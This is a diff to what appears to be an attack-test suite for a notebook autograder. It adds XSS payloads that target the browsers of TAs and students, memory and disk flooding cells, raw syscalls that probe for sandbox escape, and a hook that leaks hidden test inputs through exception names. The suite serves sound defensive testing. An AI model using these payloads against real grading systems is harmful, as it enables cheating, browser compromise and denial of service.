@@ -240,14 +240,22 @@ subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 '''
 
-# Scripts for the browser of whoever views the graded notebook: the TA in formgrader.
+# Scripts for the browser of whoever views the graded notebook: the TA in formgrader, the student in
+# feedback. Output metadata is rendered into attributes of the image tag.
 HTML_INJECTION = r'''
 from IPython.display import HTML, Javascript, SVG, display
 display(HTML("<script>alert('{marker}')</script><b onmouseover=alert('{marker}')>hi</b>"))
 display(Javascript("alert('{marker}')"))
 display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{marker}")</script></svg>'))
+pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+display({{"image/png": pixel}}, raw=True, metadata={{"image/png": {{"width": "1 onerror=alert('{marker}')",
+                                                                   "height": "1\" onload=\"alert('{marker}')"}}}})
 '''
-MARKDOWN_INJECTION = "<script>alert('{marker}')</script><img src=x onerror=\"alert('{marker}')\">"
+MARKDOWN_INJECTION = ("<script>alert('{marker}')</script><img src=x onerror=\"alert('{marker}')\">\n\n"
+                      "[one](javascript:alert('{marker}')) [two]( JaVaScRiPt:alert(1)) [three](vbscript:msgbox(1)) "
+                      "[four](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
+                      "<a href=\"&#106;avascript:alert(1)\">five</a> <javascript:alert('{marker}')>\n\n"
+                      "[six][ref]\n\n[ref]: javascript:alert('{marker}')\n")
 
 # Modules of the same name as ones the notebook imports, submitted beside it (files in
 # SHADOW_FILES), and imported by the attack cell: a kernel run in the submission's folder would
@@ -278,6 +286,104 @@ def forge(result):
 ip.events.register("post_run_cell", forge)
 '''
 
+# Round 3: a kernel against its classmates' kernels and against the hidden inputs. Each prints one
+# line, "{marker}-result <json>", which tests/test_attacks.py reads from the graded notebook.
+
+# Four processes of 1.25 GiB each: 5 GiB in one kernel, though every process stays under its own cap.
+# Each child says when it holds its memory; the cell reports, within 100 s, how many hold theirs, how
+# many were killed, and how many are still allocating. Not in ATTACKS: filling 5 GiB takes a busy
+# machine longer than the battle's cells may run (tests/test_attacks.py grades it on its own).
+MEMORY_SPREAD = r'''
+import json, mmap, os, select, time
+ready_r, ready_w = os.pipe()
+children = []
+for index in range(4):
+    pid = os.fork()
+    if pid == 0:
+        block = mmap.mmap(-1, 1280 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
+        block[-1] = 1
+        os.write(ready_w, bytes([index]))
+        time.sleep(60)
+        os._exit(0)
+    children.append(pid)
+ready, dead, deadline = set(), set(), time.time() + 100
+while len(ready | dead) < 4 and time.time() < deadline:
+    if select.select([ready_r], [], [], 0.1)[0]:
+        ready.update(os.read(ready_r, 4))
+    dead.update(i for i, pid in enumerate(children) if i not in dead and os.waitpid(pid, os.WNOHANG)[0])
+print("{marker}-result " + json.dumps({{"holding": len(ready - dead), "killed": len(dead),
+                                      "allocating": 4 - len(ready | dead)}}))
+'''
+
+# The one folder on the grader's disk that a kernel may write: its sockets.
+SOCKET_FLOOD = r'''
+import json, os
+from ipykernel.connect import get_connection_file
+folder = os.path.dirname(os.path.realpath(get_connection_file()))
+files = written = 0
+for i in range(2000):
+    try:
+        with open(os.path.join(folder, f"flood-{{i}}"), "wb") as handle:
+            handle.write(b"x" * 4096)
+        files += 1
+    except OSError:
+        break
+try:
+    with open(os.path.join(folder, "big"), "wb") as handle:
+        for _ in range(64):
+            handle.write(b"y" * (1 << 20))
+            written += 1 << 20
+except OSError:
+    pass
+print("{marker}-result " + json.dumps({{"files": files, "bytes": written}}), flush=True)
+os.write(1, b"z" * (50 << 20))  # straight to the kernel's stdout
+'''
+
+# System calls that reach beyond the sandbox: kernel keyrings (shared by every process of a uid,
+# and kept after the sandbox ends), namespaces, mounts, tracing, eBPF, perf events, userfaultfd.
+SYSCALLS = r'''
+import ctypes, json, os
+libc = ctypes.CDLL(None, use_errno=True)
+numbers = {{"x86_64": dict(add_key=248, keyctl=250, request_key=249, unshare=272, setns=308, mount=165, ptrace=101,
+                          perf_event_open=298, bpf=321, userfaultfd=323),
+           "aarch64": dict(add_key=217, keyctl=219, request_key=218, unshare=97, setns=268, mount=40, ptrace=117,
+                           perf_event_open=241, bpf=280, userfaultfd=282)}}[os.uname().machine]
+def call(name, *args):
+    libc.syscall.restype = ctypes.c_long
+    done = libc.syscall(numbers[name], *args)
+    return "allowed" if done >= 0 else os.strerror(ctypes.get_errno())
+attr = ctypes.create_string_buffer(128)
+results = {{
+    "add_key": call("add_key", b"user", b"{marker}", b"secret", 6, ctypes.c_int(-4)),
+    "keyctl": call("keyctl", 0, ctypes.c_int(-4), 0),
+    "request_key": call("request_key", b"user", b"{marker}", None, 0),
+    "unshare": call("unshare", 0x10000000),
+    "setns": call("setns", 0, 0),
+    "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
+    "ptrace": call("ptrace", 16, 1, 0, 0),
+    "perf_event_open": call("perf_event_open", attr, 0, -1, -1, 0),
+    "bpf": call("bpf", 0, attr, 128),
+    "userfaultfd": call("userfaultfd", 0),
+}}
+print("{marker}-result " + json.dumps(results))
+'''
+
+# Every answer, called by a hidden check (the request says so), raises an exception whose type name
+# carries the hidden arguments, for the check's message (feedback, results.json) to carry out.
+# Called from a visible cell, it raises a plain ValueError: those inputs are in the notebook anyway.
+LEAKY_EXCEPTION = r'''
+def _leak(*args, **kwargs):
+    if "vicourse_request" not in get_ipython().kernel.get_parent("shell").get("metadata", {{}}):
+        raise ValueError("not a hidden call")
+    text = "".join(c for c in repr(args) if c.isalnum())[:200]
+    raise type("Leak{marker}" + text, (Exception,), {{}})("{marker} " + repr(args)[:2000])
+def _reinstall():  # after every cell, so that the answer cells below do not replace it
+    for name in ("entropy", "cross_entropy", "kl_divergence", "kl_from_entropies", "fit_q", "convexity_gap",
+                 "kl_normal_std", "gaussian_kl", "kl_knn", "kl_unnormalised", "log_normal"):
+        globals()[name] = _leak
+get_ipython().events.register("post_execute", _reinstall)
+'''
+
 ATTACKS = {
     "a1-grader-rewrite": GRADER_REWRITE,
     "a2-gradebook-rewrite": GRADEBOOK_REWRITE,
@@ -291,6 +397,9 @@ ATTACKS = {
     "a10-output-flood": OUTPUT_FLOOD,
     "a11-html-injection": HTML_INJECTION,
     "a12-shadow-modules": SHADOW_MODULES,
+    "a14-socket-flood": SOCKET_FLOOD,
+    "a15-syscalls": SYSCALLS,
+    "a16-leaky-exception": LEAKY_EXCEPTION,
 }
 
 
